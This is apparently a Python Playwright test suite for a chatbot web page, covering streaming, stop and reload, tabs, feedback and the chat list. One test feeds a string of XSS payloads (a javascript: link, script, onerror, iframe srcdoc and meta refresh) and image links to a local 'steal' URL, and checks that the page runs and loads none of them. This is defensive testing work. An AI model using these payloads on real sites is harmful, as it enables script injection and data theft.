"""The chat page with a model: streaming, stop, reload, two tabs, what a hostile model may not do, the list of chats."""

import re
from collections.abc import Iterator

import httpx
import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.browser.conftest import Product, watched
from tests.provider_double import Answer

pytestmark = pytest.mark.browser

MODEL = "compatible/double-large"
SLOW = Answer(" ".join(f"word{n}" for n in range(400)), tokens_per_s=25)


@pytest.fixture
def bot(product: Product, owner: dict[str, str]) -> Iterator[str]:
    """A bot without documents that answers through the provider double; gives its address in the chat."""
    headers = {"Origin": product.address, "Sec-Fetch-Site": "same-origin"}
    with httpx.Client(base_url=product.address, headers=headers, cookies=owner, trust_env=False) as client:
        entry = {"provider": "compatible", "base_url": product.provider.base_url, "api_key": "sk-double"}
        assert client.post("/api/v1/providers", json=entry).status_code in (201, 409)
        made = client.post("/api/v1/bots", json={"name": "Talker", "model": MODEL, "knowledge_base_ids": []})
        assert made.status_code == 201, made.text
        product.provider.reset()
        yield f"{product.address}/chat?bot={made.json()['id']}"
        assert client.delete(f"/api/v1/bots/{made.json()['id']}").status_code == 204


def ask(page: Page, question: str) -> None:
    field = page.get_by_label("Question", exact=True)
    expect(field).to_be_enabled()
    field.fill(question)
    field.press("Enter")


def finished(page: Page, count: int = 1) -> None:
    expect(page.locator(".reply-foot")).to_have_count(count)


def test_an_answer_streams_and_esc_stops_it_with_what_was_said(
    signed_in: Page, product: Product, bot: str, complaints: list[str]
) -> None:
    product.provider.script(SLOW)
    signed_in.goto(bot)
    ask(signed_in, "Tell me a long story")
    writing = signed_in.get_by_label("Answer under way")
    expect(writing).to_contain_text("word3")
    expect(writing).to_contain_text("word12")
    signed_in.keyboard.press("Escape")
    finished(signed_in)
    reply = signed_in.locator(".reply").last
    expect(reply).to_contain_text("Stopped.")
    expect(reply).to_contain_text("word12")
    expect(reply).not_to_contain_text("word399")
    signed_in.reload()
    expect(signed_in.locator(".reply").last).to_contain_text("word12")
    assert complaints == []


def test_a_reload_in_the_middle_of_an_answer_keeps_it_and_goes_on(signed_in: Page, product: Product, bot: str) -> None:
    product.provider.script(Answer(" ".join(f"word{n}" for n in range(200)), tokens_per_s=20))
    signed_in.goto(bot)
    ask(signed_in, "Tell me a story")
    expect(signed_in.get_by_label("Answer under way")).to_contain_text("word5")
    expect(signed_in).to_have_url(re.compile("/chat/[0-9a-f-]{36}$"))
    signed_in.reload()
    expect(signed_in.locator(".said")).to_have_text("Tell me a story")
    expect(signed_in.locator(".reply").last).to_contain_text("word5")
    finished(signed_in)
    expect(signed_in.locator(".reply").last).to_contain_text("word0 word1")
    expect(signed_in.locator(".reply").last).to_contain_text("word199")


def test_two_tabs_do_not_disturb_each_other(
    signed_in: Page, context: BrowserContext, product: Product, bot: str, complaints: list[str]
) -> None:
    product.provider.script(Answer("first " * 30 + "end-of-first", tokens_per_s=20), Answer("Second answer."))
    signed_in.goto(bot)
    ask(signed_in, "First question")
    expect(signed_in.locator(".reply").last).to_contain_text("first")
    other = watched(context.new_page(), complaints)
    other.goto(bot)
    ask(other, "Second question")
    finished(other)
    expect(other.locator(".reply").last).to_contain_text("Second answer.")
    finished(signed_in)
    expect(signed_in.locator(".reply").last).to_contain_text("end-of-first")
    expect(signed_in.locator(".said")).to_have_text("First question")
    assert complaints == []


HOSTILE = """Here is a [link](https://example.com/page), a [bad one](javascript:document.title='hacked') and
<script>document.title = 'hacked'</script><img src=x onerror="document.title='hacked'">
<iframe srcdoc="<script>parent.document.title='hacked'</script>"></iframe>
<meta http-equiv="refresh" content="0;url=/hacked">

![secret](http://127.0.0.1:9/steal?q=secret) ![ref][r]

[r]: http://127.0.0.1:9/reference

| a | b |
|---|---|
| 1 | 2 |

```python
print("<b>[1]</b>")
```
"""


def test_a_hostile_answer_runs_nothing_and_loads_nothing(
    signed_in: Page, product: Product, bot: str, complaints: list[str]
) -> None:
    product.provider.script(Answer(HOSTILE, pieces=tuple(HOSTILE), tokens_per_s=2000))
    asked: list[str] = []
    signed_in.on("request", lambda request: asked.append(request.url))
    signed_in.goto(bot)
    ask(signed_in, "Attack")
    finished(signed_in)
    reply = signed_in.locator(".reply").last
    expect(reply.get_by_role("link", name="link")).to_have_attribute("rel", re.compile("noopener.*nofollow"))
    assert reply.locator("a:not(.reply-foot a)").count() == 1
    expect(reply.get_by_role("cell", name="2")).to_be_visible()
    expect(reply.locator("pre")).to_have_text('print("<b>[1]</b>")')
    expect(reply).to_contain_text("picture: secret")
    assert reply.locator("img, iframe, script, meta, style").count() == 0
    signed_in.reload()
    expect(signed_in.locator(".reply").last).to_contain_text("picture: secret")
    assert "hacked" not in signed_in.title() + signed_in.url
    assert [
        url for url in asked if not url.startswith((product.address, product.address.replace("http", "ws", 1)))
    ] == []
    assert complaints == []


def test_keyboard_and_judgement(signed_in: Page, product: Product, bot: str) -> None:
    product.provider.script(Answer("One."), Answer("Two."))
    signed_in.goto(bot)
    field = signed_in.get_by_label("Question", exact=True)
    expect(field).to_be_focused()
    field.press_sequentially("first line")
    field.press("Shift+Enter")
    field.press_sequentially("second line")
    field.press("Enter")
    finished(signed_in)
    assert signed_in.locator(".said").inner_text() == "first line\nsecond line"
    expect(signed_in.get_by_role("status").filter(has_text="Answer: One.")).to_have_count(1)
    field.press("ArrowUp")
    expect(field).to_have_value("first line\nsecond line")
    field.fill("")
    signed_in.get_by_role("button", name="Answer again").click()
    expect(signed_in.locator(".reply").last).to_contain_text("Two.")
    finished(signed_in)
    signed_in.get_by_role("button", name="Bad answer").click()
    signed_in.get_by_label("Comment").fill("Not what I asked")
    signed_in.get_by_role("button", name="Send", exact=True).last.click()
    expect(signed_in.get_by_role("button", name="Bad answer")).to_have_attribute("aria-pressed", "true")


def test_the_list_of_chats(signed_in: Page, product: Product, bot: str) -> None:
    product.provider.script(Answer("Bonjour."))
    signed_in.goto(bot)
    ask(signed_in, "Say hello in French please")
    finished(signed_in)
    listed = signed_in.get_by_role("list", name="Chats")
    row = listed.get_by_role("listitem").filter(has_text="Say hello in French please")
    row.hover()
    row.get_by_role("button", name="Rename").click()
    signed_in.get_by_label("Title").fill("Greetings")
    signed_in.get_by_role("button", name="Save").click()
    row = listed.get_by_role("listitem").filter(has_text="Greetings")
    expect(row).to_have_count(1)
    signed_in.get_by_label("Search chats").fill("bonjour")
    expect(listed.get_by_role("listitem")).to_have_count(1)
    signed_in.get_by_label("Search chats").fill("")
    row.hover()
    row.get_by_role("button", name="Archive").click()
    expect(row).to_have_count(0)
    signed_in.get_by_role("button", name="Archived chats").click()
    row.hover()
    row.get_by_role("button", name="Delete").click()
    signed_in.get_by_role("dialog").get_by_role("button", name="Delete").click()
    expect(row).to_have_count(0)
    expect(signed_in).to_have_url(re.compile("/chat$"))


def test_a_failing_provider_is_told_in_words(signed_in: Page, product: Product, bot: str) -> None:
    product.provider.script(*[Answer(status=401, error={"message": "bad key", "type": "auth"})] * 8)
    signed_in.goto(bot)
    ask(signed_in, "Anybody there?")
    finished(signed_in)
    expect(signed_in.locator(".reply").last.get_by_role("alert")).to_be_visible()
    expect(signed_in.get_by_label("Question", exact=True)).to_be_enabled()
